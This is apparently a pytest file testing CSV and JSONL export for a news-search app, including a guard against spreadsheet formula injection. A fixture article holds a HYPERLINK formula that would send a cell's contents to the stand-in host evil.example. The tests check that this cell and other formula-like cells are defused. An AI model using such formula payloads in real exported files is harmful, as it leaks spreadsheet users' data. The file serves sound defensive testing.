"""Export of whole searches: CSV (round trip through Python's csv module) and JSON Lines, from the
API and from the real `rassegna export` command, with filters, sort and formula-injection guard."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from webfixtures import ARTICLES, build_corpus_index

from search.export import COLUMNS, EXPORT_LIMIT, safe_cell
from search.request import SearchRequest
from search.searcher import export_hits, search
from search.store import IndexHandle
from web import create_app

RASSEGNA = str(Path(sys.executable).parent / "rassegna")

# Cells a spreadsheet would run as formulas, and an article that carries them.
FORMULA_ARTICLE = {
    "id": "f01",
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Clicca")',
    "body": "+39 scrive il governo sulla manovra: @cmd e -2+3 nella cella.",
    "source": "@Agenzia",
    "author": "-Anonimo",
    "date": "2025-01-15",
    "url": "https://example.org/formula",
}


@pytest.fixture(scope="module")
def export_index(tmp_path_factory):
    return build_corpus_index(tmp_path_factory.mktemp("export"), [*ARTICLES, FORMULA_ARTICLE])


@pytest.fixture
def client(export_index):
    app = create_app({"INDEX_DIR": str(export_index), "TESTING": True})
    yield app.test_client()
    app.extensions["rassegna"].close()


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode()), "CSV starts with the UTF-8 byte-order mark"
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(COLUMNS)
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def test_csv_export_round_trips_with_every_match_and_the_filters(client, export_index):
    response = client.get("/api/export?q=manovra&source=Ansa&source=Corriere&sort=-date")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="rassegna.csv"'
    assert response.is_streamed
    rows = read_csv(response.data)
    # Every match, near-duplicates included (a01 and a08 are one story), newest first.
    assert [row["id"] for row in rows] == ["a01", "a08", "a11"]
    assert {row["source"] for row in rows} == {"ANSA", "Corriere della Sera"}  # canonical names
    assert response.headers["X-Total-Count"] == "3"
    assert response.headers["X-Export-Count"] == "3"
    assert response.headers["X-Export-Limit"] == str(EXPORT_LIMIT) == "10000"
    assert rows[0] == {
        "id": "a01",
        "title": "Il governo approva la manovra finanziaria",
        "date": "2025-04-11",
        "source": "Corriere della Sera",
        "author": "Mario Rossi",
        "url": "https://example.org/corriere/manovra-finanziaria-governo-approva",
        "score": "0.0",
        "snippet": "Il consiglio dei ministri ha approvato la manovra finanziaria per il prossimo "
        "anno. La manovra prevede tagli alle tasse e nuovi fondi per la sanità pubblica.",
    }
    handle = IndexHandle(export_index)
    try:
        page = search(handle, "manovra", source=["Ansa", "Corriere"], collapse=False)
    finally:
        handle.close()
    assert page.total == len(rows)


def test_export_row_count_is_the_search_total_under_every_filter(client, export_index):
    handle = IndexHandle(export_index)
    try:
        for args, request in [
            ("q=manovra", SearchRequest("manovra")),
            ("q=governo&year=2024&year=2025", SearchRequest("governo", years=["2024", "2025"])),
            (
                "q=manovra&from=2025-04&to=2025-04",
                SearchRequest("manovra", date_from="2025-04", date_to="2025-04"),
            ),
            ("sort=date&author=Redazione", SearchRequest(sort="date", authors=["Redazione"])),
        ]:
            rows = read_csv(client.get("/api/export?" + args).data)
            total = search(handle, request, collapse=False).total
            expected = [h.id for h in export_hits(handle, request).hits]
            assert [row["id"] for row in rows] == expected, args
            assert len(rows) == total, args
    finally:
        handle.close()


def test_export_keeps_the_search_order(client):
    oldest = [row["id"] for row in read_csv(client.get("/api/export?q=manovra&sort=date").data)]
    newest = [row["id"] for row in read_csv(client.get("/api/export?q=manovra&sort=-date").data)]
    assert oldest == ["a11", "f01", "a01", "a08", "a02", "a06"]
    assert newest == ["a06", "a02", "a01", "a08", "f01", "a11"]
    relevance = read_csv(client.get("/api/export?q=manovra").data)
    scores = [float(row["score"]) for row in relevance]
    assert scores == sorted(scores, reverse=True) and scores[0] > 0


def test_csv_cells_that_look_like_formulas_are_defused(client):
    rows = read_csv(client.get("/api/export?q=cella").data)
    assert len(rows) == 1
    row = rows[0]
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Clicca")'
    assert row["source"] == "'@Agenzia"
    assert row["author"] == ""  # "-Anonimo" is no author name (search.metadata drops it)
    assert row["snippet"].startswith("'+39 scrive il governo")
    assert row["date"] == "2025-01-15"  # values that are not formulas stay as they are
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@a", "\tx", "a=b", None, 1.5)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "a=b",
        "",
        "1.5",
    ]


def test_jsonl_export_holds_the_values_unchanged(client):
    response = client.get("/api/export?q=cella&format=jsonl")
    assert response.status_code == 200
    assert response.mimetype == "application/x-ndjson"
    lines = response.get_data(as_text=True).splitlines()
    assert len(lines) == 1
    assert json.loads(lines[0]) == {
        "id": "f01",
        "title": '=HYPERLINK("http://evil.example/?"&A1,"Clicca")',
        "date": "2025-01-15",
        "source": "@Agenzia",
        "author": None,
        "url": "https://example.org/formula",
        "score": json.loads(lines[0])["score"],
        "snippet": "+39 scrive il governo sulla manovra: @cmd e -2+3 nella cella.",
    }


def test_export_caps_at_the_limit(export_index):
    handle = IndexHandle(export_index)
    try:
        found = export_hits(handle, SearchRequest(sort="-date"), limit=5)
        assert (found.total, found.count, found.truncated) == (13, 5, True)
        assert len(list(found.hits)) == 5
    finally:
        handle.close()


def test_an_export_past_its_work_budget_says_its_total_is_an_estimate(client, monkeypatch):
    """A search too slow to match in full exports the matches found, and says the total is a
    guess (X-Total-Exact), never a stall and never a wrong exact count."""
    exact = client.get("/api/export?sort=-date")
    assert (exact.headers["X-Total-Count"], exact.headers["X-Total-Exact"]) == ("13", "true")
    monkeypatch.setattr("search.searcher.EXPORT_BUDGET_S", 0.0)
    monkeypatch.setattr("search.collecting.CLOCK_EVERY", 1)  # look at the clock at every match
    response = client.get("/api/export?sort=-date")
    rows = read_csv(response.data)
    assert response.headers["X-Total-Exact"] == "false"
    assert response.headers["X-Total-Count"] == "13"  # every document: the estimate is right
    assert len(rows) == int(response.headers["X-Export-Count"]) == 1
    assert rows[0] in read_csv(exact.data)  # the first match found (the newest of those found)


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        ("q=manovra&format=xlsx", "bad_format"),
        ("q=manovra&year=20", "bad_year"),
        ("q=manovra&from=ieri", "bad_date"),
    ],
)
def test_export_bad_parameters_are_400_before_any_row(client, args, reason):
    response = client.get("/api/export?" + args)
    assert response.status_code == 400
    assert response.get_json()["error"]["reason"] == reason


def test_cli_export_csv_to_a_file_and_jsonl_to_stdout(export_index, tmp_path):
    target = tmp_path / "out.csv"
    result = subprocess.run(
        [RASSEGNA, "export", "manovra", "--index", str(export_index), "--source", "Ansa",
         "--source", "Corriere", "--sort", "-date", "--output", str(target)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stderr.strip() == f"Exported 3 rows to {target}"
    rows = read_csv(target.read_bytes())
    assert [row["id"] for row in rows] == ["a01", "a08", "a11"]

    one = subprocess.run(
        [RASSEGNA, "export", "cella", "--index", str(export_index), "--format", "jsonl"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert one.returncode == 0, one.stderr
    assert [json.loads(line)["id"] for line in one.stdout.splitlines()] == ["f01"]
    assert one.stderr.strip() == "Exported 1 row"


def test_cli_export_bad_filter_is_a_one_line_error(export_index):
    result = subprocess.run(
        [RASSEGNA, "export", "manovra", "--index", str(export_index), "--year", "duemila"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr == "Error: `year` must be a year like 2024; got 'duemila'.\n"
